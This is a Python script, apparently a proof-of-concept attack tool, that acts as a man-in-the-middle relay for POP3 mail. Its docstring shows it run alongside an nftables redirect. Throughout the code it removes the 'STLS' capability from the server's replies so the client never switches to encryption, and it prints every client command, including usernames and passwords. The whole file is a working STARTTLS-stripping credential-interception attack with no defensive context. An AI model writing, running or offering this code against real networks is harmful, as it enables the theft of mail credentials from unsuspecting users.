#!/usr/bin/env python3
"""The man in the middle: he leaves STLS out of what the server says, and listens.

modemA$ nft -f strip.nft
modemA$ python3 strip_stls.py mail.example.com 1110
"""

import argparse
import asyncio
from asyncio import StreamReader, StreamWriter
from contextlib import suppress


async def answers(server: StreamReader, client: StreamWriter) -> None:
    while line := await server.readline():
        if line.strip().upper() != b"STLS":
            client.write(line)
    client.close()


async def commands(client: StreamReader, server: StreamWriter) -> None:
    while line := await client.readline():
        print("heard:", ascii(line.decode("latin-1").rstrip())[1:-1], flush=True)
        server.write(line)
    server.close()


async def main(host: str, port: int) -> None:
    async def serve(reader: StreamReader, writer: StreamWriter) -> None:
        with suppress(OSError):
            theirs, ours = await asyncio.open_connection(host, 110)
            await asyncio.gather(answers(theirs, writer), commands(reader, ours))

    async with await asyncio.start_server(serve, port=port) as server:
        await server.serve_forever()


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="Relay POP, without STLS.")
    parser.add_argument("hostname", help="the real POP server")
    parser.add_argument("port", type=int, help="where to listen")
    args = parser.parse_args()
    with suppress(KeyboardInterrupt):
        asyncio.run(main(args.hostname, args.port))
